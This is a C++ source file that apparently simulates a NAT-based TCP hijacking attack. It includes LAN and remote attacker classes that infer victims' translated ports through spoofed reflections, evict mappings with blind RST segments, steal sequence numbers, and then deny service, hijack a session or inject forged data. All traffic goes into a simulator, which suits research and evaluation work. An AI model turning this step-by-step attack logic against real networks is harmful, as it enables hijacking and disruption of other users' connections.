#include "nathijack/attacker.hpp"

#include <algorithm>
#include <charconv>
#include <stdexcept>

namespace nathijack {

std::string_view to_string(AttackPhase p) {
  switch (p) {
    case AttackPhase::Probe: return "Probe";
    case AttackPhase::InferPort: return "InferPort";
    case AttackPhase::Evict: return "Evict";
    case AttackPhase::Steal: return "Steal";
    case AttackPhase::PayloadDos: return "PayloadDos";
    case AttackPhase::PayloadHijack: return "PayloadHijack";
    case AttackPhase::RestoreMapping: return "RestoreMapping";
    case AttackPhase::PayloadInject: return "PayloadInject";
    case AttackPhase::Done: return "Done";
    case AttackPhase::Failed: return "Failed";
  }
  return "?";
}

std::string_view to_string(Outcome o) {
  switch (o) {
    case Outcome::Success: return "Success";
    case Outcome::Timeout: return "Timeout";
    case Outcome::ConnectionKilledUnintentionally: return "ConnectionKilledUnintentionally";
    case Outcome::RaceLost: return "RaceLost";
    case Outcome::NotVulnerable: return "NotVulnerable";
    case Outcome::AuthNotEstablished: return "AuthNotEstablished";
    case Outcome::NoConnectionFound: return "NoConnectionFound";
    case Outcome::ExternalIpUnresolvable: return "ExternalIpUnresolvable";
  }
  return "?";
}

std::string_view to_string(NotVulnerableReason r) {
  switch (r) {
    case NotVulnerableReason::PortStrategy: return "PortStrategy";
    case NotVulnerableReason::RpFilter: return "RpFilter";
    case NotVulnerableReason::WindowTracking: return "WindowTracking";
    case NotVulnerableReason::ApIsolation: return "ApIsolation";
  }
  return "?";
}

std::string_view to_string(PayloadKind p) {
  switch (p) {
    case PayloadKind::Dos: return "dos";
    case PayloadKind::Hijack: return "hijack";
    case PayloadKind::Inject: return "inject";
    case PayloadKind::RemoteDos: return "remote-dos";
  }
  return "?";
}

PayloadKind parse_payload(std::string_view text) {
  for (auto p : {PayloadKind::Dos, PayloadKind::Hijack, PayloadKind::Inject, PayloadKind::RemoteDos}) {
    if (text == to_string(p)) return p;
  }
  throw std::invalid_argument("unknown payload: " + std::string(text));
}

std::string AttackReport::outcome_label() const {
  std::string s(to_string(outcome));
  if (reason) s += "(" + std::string(to_string(*reason)) + ")";
  return s;
}

EvictionPlan EvictionPlan::make(WindowTrackingMode mode, std::uint32_t x, TimeMs timeout_ms) {
  EvictionPlan p;
  p.mode_assumed = mode;
  p.close_timeout_guess_ms = timeout_ms;
  p.rst_seqs = {x};
  if (mode != WindowTrackingMode::NoCheck) p.rst_seqs.push_back(seq_opposite(x));
  return p;
}

// ---------------------------------------------------------------- echo host

void EchoHost::on_segment(SimWorld& world, const TcpSegment& seg) {
  if (seg.dst.port != port_ || seg.flags.bits() != kSyn) return;
  const auto isn = static_cast<std::uint32_t>(rng_());
  TcpSegment synack;
  synack.src = addr();
  synack.dst = seg.src;
  synack.flags = TcpFlags(kSyn | kAck);
  synack.seq = isn;
  synack.ack = seq_add(seg.seq, 1);
  world.send(id(), synack);

  const std::string tag = "port:" + std::to_string(seg.src.port);
  TcpSegment data = synack;
  data.flags = TcpFlags(kPsh | kAck);
  data.seq = seq_add(isn, 1);
  data.payload_tag = PayloadTag(tag);
  data.payload_len = static_cast<std::uint32_t>(tag.size());
  world.send(id(), data);
}

// ---------------------------------------------------------------- LAN attacker

namespace {

enum TimerKind : std::uint64_t {
  kStart = 1,
  kProbeDone,
  kCalibTimeout,
  kReflectTimeout,
  kScanTick,
  kLadderProbe,
  kLadderTimeout,
  kCycleResume,
  kStealTimeout,
  kRetry,
  kHijackTimeout,
  kRestoreDone,
  kInjectTick,
  kDeadline,
};

std::optional<std::uint16_t> parse_port_tag(std::string_view tag) {
  if (!tag.starts_with("port:")) return std::nullopt;
  tag.remove_prefix(5);
  unsigned v = 0;
  auto [ptr, ec] = std::from_chars(tag.data(), tag.data() + tag.size(), v);
  if (ec != std::errc{} || ptr != tag.data() + tag.size() || v > 65535) return std::nullopt;
  return static_cast<std::uint16_t>(v);
}

}  // namespace

LanAttacker::LanAttacker(IpAddr ip, AttackerConfig config)
    : Host("attacker", ip, Side::Lan, config.bandwidth_pps),
      config_(std::move(config)),
      rng_(config_.seed) {
  if (config_.timeout_guesses_ms.empty()) throw std::invalid_argument("need a close-timeout guess");
  report_.inference.target_server = config_.server;
}

void LanAttacker::arm(SimWorld& w, TimeMs delay, std::uint64_t kind) {
  w.schedule(id(), delay, kind | (epoch_ << 8));
}

void LanAttacker::enter_phase(SimWorld& w, AttackPhase p) {
  report_.phase_times[phase_] += w.now() - phase_started_;
  phase_ = p;
  phase_started_ = w.now();
}

TcpSegment LanAttacker::from_me(std::uint16_t sport, SockAddr dst, TcpFlags flags) const {
  TcpSegment s;
  s.src = SockAddr{ip(), sport};
  s.dst = dst;
  s.flags = flags;
  return s;
}

TcpSegment LanAttacker::spoofed(SockAddr src, SockAddr dst, TcpFlags flags) const {
  TcpSegment s;
  s.src = src;
  s.dst = dst;
  s.flags = flags;
  return s;
}

void LanAttacker::on_start(SimWorld& w) {
  w.schedule(id(), std::max<TimeMs>(0, config_.start_at_ms - w.now()), kStart);
}

void LanAttacker::on_timer(SimWorld& w, std::uint64_t tag) {
  const std::uint64_t kind = tag & 0xFF;
  if (step_ == Step::Finished) return;
  if (kind == kStart) {
    begin(w);
    return;
  }
  if (kind == kDeadline) {
    finish(w, Outcome::Timeout);
    return;
  }
  if ((tag >> 8) != epoch_) return;  // superseded wait
  switch (kind) {
    case kProbeDone: finish_probe(w); break;
    case kCalibTimeout: finish(w, Outcome::Timeout); break;
    case kReflectTimeout: finish(w, Outcome::NotVulnerable, NotVulnerableReason::RpFilter); break;
    case kScanTick: scan_tick(w); break;
    case kLadderProbe: ladder_probe(w); break;
    case kLadderTimeout: ladder_verdict(w, false); break;
    case kCycleResume: steal_probe(w); break;
    case kStealTimeout: retry(w); break;
    case kRetry: cycle(w); break;
    case kHijackTimeout: finish(w, Outcome::RaceLost); break;
    case kRestoreDone: {
      const auto& c = *report_.credentials;
      for (IpAddr h : report_.lan_hosts) {
        TcpSegment ack = spoofed(config_.server, SockAddr{h, m_}, kAck);
        ack.seq = c.seq - 1;
        ack.ack = c.ack;
        w.send(id(), ack);
      }
      enter_phase(w, AttackPhase::PayloadInject);
      step_ = Step::Injecting;
      ++epoch_;
      arm(w, config_.rtt_budget_ms, kInjectTick);
      break;
    }
    case kInjectTick: {
      const auto& c = *report_.credentials;
      TcpSegment forged = spoofed(config_.server, SockAddr{external_ip_, m_}, TcpFlags(kPsh | kAck));
      forged.seq = c.seq;
      forged.ack = c.ack;
      forged.payload_tag = PayloadTag(config_.forged_tag);
      forged.payload_len = static_cast<std::uint32_t>(config_.forged_tag.size());
      w.send(id(), forged);
      arm(w, config_.inject_period_ms, kInjectTick);
      break;
    }
    default: break;
  }
}

// Phase 1: where is the router's external side, and who else is on the LAN.
void LanAttacker::begin(SimWorld& w) {
  report_.started_at = w.now();
  phase_started_ = w.now();
  phase_ = AttackPhase::Probe;
  w.schedule(id(), config_.deadline_ms, kDeadline);

  int probes = 1;
  const std::vector<IpAddr> hops = w.traceroute(id());
  std::optional<IpAddr> ext;
  if (hops.size() >= 2) {
    const IpAddr second = hops[1];
    const auto routes = w.ping_record_route(id(), second);
    ++probes;
    if (routes.size() >= 2) ext = routes[1];
    if (!ext) {
      // The gateway did not return the route; try everything next to it.
      const auto live = w.scan_upstream(id(), second);
      probes += static_cast<int>(live.size());
      for (IpAddr h : live) {
        const auto r = w.ping_record_route(id(), h);
        ++probes;
        if (r.size() >= 2) {
          ext = r[1];
          break;
        }
      }
    }
  }
  report_.external_ip = ext;
  report_.lan_hosts = w.scan_lan(id());
  probes += 1 + static_cast<int>(report_.lan_hosts.size());
  report_.ap_isolation_detected = report_.lan_hosts.empty();

  const TimeMs probe_rtt = 2 * (w.links().lan_latency_ms + w.links().wan_latency_ms);
  step_ = Step::Idle;
  ++epoch_;
  arm(w, probes * probe_rtt, kProbeDone);
}

void LanAttacker::finish_probe(SimWorld& w) {
  if (!report_.external_ip) {
    finish(w, Outcome::ExternalIpUnresolvable);
    return;
  }
  external_ip_ = *report_.external_ip;
  if (config_.payload == PayloadKind::Inject && report_.ap_isolation_detected) {
    finish(w, Outcome::NotVulnerable, NotVulnerableReason::ApIsolation);
    return;
  }
  begin_calibration(w);
}

// Phase 2 starts with our own connection to the echo host: the echoed port
// tells us whether the source port survives translation, and a spoofed
// segment on that mapping tells us whether spoofed packets come back at all.
void LanAttacker::begin_calibration(SimWorld& w) {
  enter_phase(w, AttackPhase::InferPort);
  calib_port_ = static_cast<std::uint16_t>(std::uniform_int_distribution<int>(20000, 29999)(rng_));
  calib_isn_ = rand32();
  TcpSegment syn = from_me(calib_port_, config_.echo, kSyn);
  syn.seq = calib_isn_;
  w.send(id(), syn);
  step_ = Step::CalibConnect;
  ++epoch_;
  arm(w, 1000, kCalibTimeout);
}

void LanAttacker::begin_scan(SimWorld& w) {
  order_.clear();
  std::bitset<65536> queued;
  const auto in_range = [&](std::uint16_t p) {
    return p >= config_.scan_first && p <= config_.scan_last;
  };
  for (std::uint16_t p : config_.scan_priority) {
    if (in_range(p) && !queued[p]) {
      queued[p] = true;
      order_.push_back(p);
    }
  }
  for (std::uint32_t p = config_.scan_first; p <= config_.scan_last; ++p) {
    if (!queued[p]) order_.push_back(static_cast<std::uint16_t>(p));
  }
  next_guess_ = 0;
  outstanding_.clear();
  reflected_.reset();
  step_ = Step::Scanning;
  ++epoch_;
  arm(w, 0, kScanTick);
}

void LanAttacker::scan_tick(SimWorld& w) {
  while (!outstanding_.empty() && w.now() > outstanding_.front().second) {
    const std::uint16_t n = outstanding_.front().first;
    outstanding_.pop_front();
    if (!reflected_[n]) {
      confirm(w, n);
      return;
    }
  }
  const int per_tick = std::max(1, config_.bandwidth_pps / 2000);
  for (int g = 0; g < per_tick && next_guess_ < order_.size(); ++g) {
    const std::uint16_t n = order_[next_guess_++];
    report_.inference.candidate = n;
    ++report_.inference.guesses;
    TcpSegment syn = from_me(n, config_.server, kSyn);
    syn.seq = rand32();
    syn.ttl = 2;
    w.send(id(), syn);
    TcpSegment synack = spoofed(config_.server, SockAddr{external_ip_, n}, TcpFlags(kSyn | kAck));
    synack.seq = rand32();
    // The guess rides in the ack field: a reflection can arrive on a
    // different internal port when our own probe mapping was renumbered.
    synack.ack = (rand32() & 0xFFFF0000U) | n;
    w.send(id(), synack);
    outstanding_.emplace_back(n, w.now() + config_.rtt_budget_ms);
  }
  if (next_guess_ == order_.size() && outstanding_.empty()) {
    finish(w, Outcome::NoConnectionFound);
    return;
  }
  arm(w, 1, kScanTick);
}

void LanAttacker::confirm(SimWorld& w, std::uint16_t m) {
  m_ = m;
  report_.inference.confirmed = m;
  ++epoch_;
  if (config_.stop_after_inference) {
    finish(w, Outcome::Success);
    return;
  }
  begin_evict(w);
}

// Phase 3 begins by learning how the router treats blind resets, again on
// our own echo mapping: first a reset the liberal check must refuse, then
// one it must accept, each followed by probes after each timeout guess.
void LanAttacker::begin_evict(SimWorld& w) {
  enter_phase(w, AttackPhase::Evict);
  ladder_step_ = 0;
  ladder_rst(w);
}

void LanAttacker::ladder_rst(SimWorld& w) {
  ladder_seq_ = ladder_step_ == 0 ? seq_opposite(echo_base_) : seq_add(echo_base_, 1'000'000);
  TcpSegment rst = spoofed(config_.echo, SockAddr{external_ip_, calib_port_}, kRst);
  rst.seq = ladder_seq_;
  w.send(id(), rst);
  ladder_guess_ = 0;
  step_ = Step::LadderWait;
  ++epoch_;
  arm(w, config_.timeout_guesses_ms[0] + config_.eviction_margin_ms, kLadderProbe);
}

// One probe at the old base and one at the reset's own sequence number: a
// router that took the reset has moved its window there, one that refused
// it has not. Either reflecting means the mapping is still alive.
void LanAttacker::ladder_probe(SimWorld& w) {
  for (std::uint32_t seq : {echo_base_, ladder_seq_}) {
    TcpSegment probe = spoofed(config_.echo, SockAddr{external_ip_, calib_port_}, TcpFlags(kSyn | kAck));
    probe.seq = seq;
    probe.ack = seq_add(calib_isn_, 1);
    w.send(id(), probe);
  }
  step_ = Step::LadderProbe;
  ++epoch_;
  arm(w, config_.rtt_budget_ms, kLadderTimeout);
}

void LanAttacker::ladder_verdict(SimWorld& w, bool reflected) {
  ++epoch_;
  if (!reflected) {
    const auto mode = ladder_step_ == 0 ? WindowTrackingMode::NoCheck : WindowTrackingMode::Liberal2G;
    report_.plan = EvictionPlan::make(mode, rand32(), config_.timeout_guesses_ms[ladder_guess_]);
    cycle(w);
    return;
  }
  if (++ladder_guess_ < config_.timeout_guesses_ms.size()) {
    step_ = Step::LadderWait;
    arm(w, config_.timeout_guesses_ms[ladder_guess_] + config_.eviction_margin_ms, kLadderProbe);
    return;
  }
  if (++ladder_step_ < 2) {
    ladder_rst(w);
    return;
  }
  finish(w, Outcome::NotVulnerable, NotVulnerableReason::WindowTracking);
}

void LanAttacker::cycle(SimWorld& w) {
  if (w.now() - report_.started_at >= config_.deadline_ms) {
    finish(w, Outcome::Timeout);
    return;
  }
  ++report_.evict_attempts;
  EvictionPlan& plan = *report_.plan;
  plan = EvictionPlan::make(plan.mode_assumed, rand32(), plan.close_timeout_guess_ms);

  // Our own probe SYN on port m left a mapping behind; close it too.
  TcpSegment own = from_me(m_, config_.server, kRst);
  own.seq = rand32();
  own.ttl = 2;
  w.send(id(), own);
  for (std::uint32_t seq : plan.rst_seqs) {
    TcpSegment rst = spoofed(config_.server, SockAddr{external_ip_, m_}, kRst);
    rst.seq = seq;
    w.send(id(), rst);
  }
  step_ = Step::EvictWait;
  ++epoch_;
  arm(w, plan.close_timeout_guess_ms + config_.eviction_margin_ms, kCycleResume);
}

void LanAttacker::steal_probe(SimWorld& w) {
  TcpSegment data = from_me(m_, config_.server, TcpFlags(kPsh | kAck));
  data.seq = rand32();
  data.ack = rand32();
  data.payload_tag = PayloadTag("?");
  data.payload_len = 1;
  w.send(id(), data);
  steal_sent_at_ = w.now();
  step_ = Step::Stealing;
  ++epoch_;
  arm(w, config_.steal_budget_ms, kStealTimeout);
}

void LanAttacker::retry(SimWorld& w) {
  ++epoch_;
  step_ = Step::EvictWait;
  const TimeMs jitter = std::uniform_int_distribution<TimeMs>(0, config_.retry_jitter_max_ms)(rng_);
  arm(w, jitter, kRetry);
}

void LanAttacker::got_credentials(SimWorld& w, const TcpSegment& ack) {
  ++epoch_;
  StolenCredentials c{ack.seq, ack.ack, w.now()};
  report_.credentials = c;
  if (observer_) observer_(c);
  report_.phase_times[AttackPhase::Evict] += steal_sent_at_ - phase_started_;
  phase_ = AttackPhase::Steal;
  phase_started_ = steal_sent_at_;
  run_payload(w);
}

void LanAttacker::run_payload(SimWorld& w) {
  const StolenCredentials& c = *report_.credentials;
  switch (config_.payload) {
    case PayloadKind::Dos:
    case PayloadKind::RemoteDos: {
      enter_phase(w, AttackPhase::PayloadDos);
      TcpSegment rst = from_me(m_, config_.server, kRst);
      rst.seq = c.ack;
      w.send(id(), rst);
      finish(w, Outcome::Success);
      return;
    }
    case PayloadKind::Hijack: {
      enter_phase(w, AttackPhase::PayloadHijack);
      TcpSegment req = from_me(m_, config_.server, TcpFlags(kPsh | kAck));
      req.seq = c.ack;
      req.ack = c.seq;
      req.payload_tag = PayloadTag(config_.hijack_request);
      req.payload_len = static_cast<std::uint32_t>(config_.hijack_request.size());
      w.send(id(), req);
      step_ = Step::HijackWait;
      ++epoch_;
      arm(w, config_.steal_budget_ms, kHijackTimeout);
      return;
    }
    case PayloadKind::Inject: {
      enter_phase(w, AttackPhase::RestoreMapping);
      // Hand port m back: evict our own mapping the same way we evicted the victim's.
      TcpSegment rst = spoofed(config_.server, SockAddr{external_ip_, m_}, kRst);
      rst.seq = c.seq;
      w.send(id(), rst);
      step_ = Step::Restoring;
      ++epoch_;
      arm(w, report_.plan->close_timeout_guess_ms + config_.eviction_margin_ms, kRestoreDone);
      return;
    }
  }
}

void LanAttacker::on_segment(SimWorld& w, const TcpSegment& seg) {
  if (step_ == Step::Finished) return;

  if (seg.src == config_.echo && seg.dst.port == calib_port_) {
    switch (step_) {
      case Step::CalibConnect:
        if (seg.flags == TcpFlags(kSyn | kAck) && seg.ack == seq_add(calib_isn_, 1)) {
          TcpSegment ack = from_me(calib_port_, config_.echo, kAck);
          ack.seq = seg.ack;
          ack.ack = seq_add(seg.seq, 1);
          w.send(id(), ack);
        } else if (seg.payload_len > 0) {
          const auto observed = parse_port_tag(seg.payload_tag.view());
          if (!observed) return;
          report_.inference.reassigned_observed = *observed;
          echo_base_ = seq_add(seg.seq, seg.payload_len);
          if (*observed != calib_port_) {
            finish(w, Outcome::NotVulnerable, NotVulnerableReason::PortStrategy);
            return;
          }
          TcpSegment probe = spoofed(config_.echo, SockAddr{external_ip_, calib_port_},
                                     TcpFlags(kSyn | kAck));
          probe.seq = echo_base_;
          probe.ack = seq_add(calib_isn_, 1);
          w.send(id(), probe);
          step_ = Step::CalibReflect;
          ++epoch_;
          arm(w, config_.rtt_budget_ms, kReflectTimeout);
        }
        return;
      case Step::CalibReflect:
        if (seg.flags.has(kSyn) && seg.seq == echo_base_) {
          report_.inference.reassigned_observed.reset();
          begin_scan(w);
        }
        return;
      case Step::LadderProbe:
        if (seg.flags.has(kSyn) && (seg.seq == echo_base_ || seg.seq == ladder_seq_)) {
          ladder_verdict(w, true);
        }
        return;
      default:
        return;
    }
  }

  if (seg.src != config_.server) return;
  switch (step_) {
    case Step::Scanning:
      if (seg.flags == TcpFlags(kSyn | kAck)) reflected_[seg.ack & 0xFFFFU] = true;
      return;
    case Step::Stealing:
      if (seg.dst.port != m_) return;
      if (seg.flags.bare_ack()) {
        got_credentials(w, seg);
      } else if (seg.flags.has(kRst)) {
        retry(w);
      }
      return;
    case Step::HijackWait:
      if (seg.dst.port != m_) return;
      if (seg.payload_len > 0 && seg.payload_tag.starts_with("file:")) {
        finish(w, Outcome::Success);
      } else if (seg.payload_len > 0 && seg.payload_tag.view() == "ftp-530") {
        finish(w, Outcome::AuthNotEstablished);
      } else if (seg.payload_len > 0 || seg.flags.has(kRst) || seg.flags.bare_ack()) {
        finish(w, Outcome::RaceLost);
      }
      return;
    default:
      return;
  }
}

AttackReport LanAttacker::report_at(const SimWorld& w) const {
  AttackReport r = report_;
  r.packets_sent = w.packets_sent_by(id());
  if (!r.finished) {
    r.phase_times[phase_] += w.now() - phase_started_;
    r.finished_at = w.now();
  }
  return r;
}

void LanAttacker::finish(SimWorld& w, Outcome o, std::optional<NotVulnerableReason> r) {
  report_.outcome = o;
  report_.reason = r;
  enter_phase(w, o == Outcome::Success ? AttackPhase::Done : AttackPhase::Failed);
  report_.phase_times.erase(AttackPhase::Done);
  report_.phase_times.erase(AttackPhase::Failed);
  report_.finished_at = w.now();
  report_.finished = true;
  report_.packets_sent = w.packets_sent_by(id());
  step_ = Step::Finished;
  ++epoch_;
}

// ---------------------------------------------------------------- remote attacker

namespace {
enum RemoteTimer : std::uint64_t { kRemoteTick = 1, kRemoteResume = 2 };
}

RemoteAttacker::RemoteAttacker(IpAddr ip, RemoteAttackerConfig config)
    : Host("remote-attacker", ip, Side::Wan, config.bandwidth_pps),
      config_(config),
      rng_(config.seed) {}

void RemoteAttacker::on_start(SimWorld& w) {
  started_at_ = std::max(w.now(), config_.start_at_ms);
  x_ = static_cast<std::uint32_t>(rng_());
  w.schedule(id(), started_at_ - w.now(), kRemoteTick);
}

void RemoteAttacker::on_timer(SimWorld& w, std::uint64_t) {
  if (!done_) tick(w);
}

void RemoteAttacker::tick(SimWorld& w) {
  const std::uint32_t span = std::uint32_t{config_.port_last} - config_.port_first + 1;
  int budget = std::max(1, config_.bandwidth_pps / 1000);
  while (budget > 0 && next_port_ < span) {
    const auto port = static_cast<std::uint16_t>(config_.port_first + next_port_++);
    if (stage_ == Stage::RstFlood) {
      TcpSegment rst;
      rst.src = config_.server;
      rst.dst = SockAddr{config_.router_ip, port};
      rst.flags = kRst;
      rst.seq = x_;
      w.send(id(), rst);
      --budget;
      if (config_.rst_pair) {
        rst.seq = seq_opposite(x_);
        w.send(id(), rst);
        --budget;
      }
    } else {
      TcpSegment data;
      data.src = SockAddr{config_.router_ip, port};
      data.dst = config_.server;
      data.flags = TcpFlags(kPsh | kAck);
      data.seq = static_cast<std::uint32_t>(rng_());
      data.ack = static_cast<std::uint32_t>(rng_());
      data.payload_tag = PayloadTag("?");
      data.payload_len = 1;
      w.send(id(), data);
      --budget;
    }
  }
  if (next_port_ < span) {
    w.schedule(id(), 1, kRemoteTick);
    return;
  }
  next_port_ = 0;
  if (stage_ == Stage::RstFlood) {
    stage_ = Stage::DataFlood;
    w.schedule(id(), config_.purge_wait_ms, kRemoteResume);
    return;
  }
  if (++cycles_done_ >= config_.cycles) {
    done_ = true;
    return;
  }
  stage_ = Stage::RstFlood;
  x_ = static_cast<std::uint32_t>(rng_());
  w.schedule(id(), config_.cycle_gap_ms, kRemoteResume);
}

}  // namespace nathijack
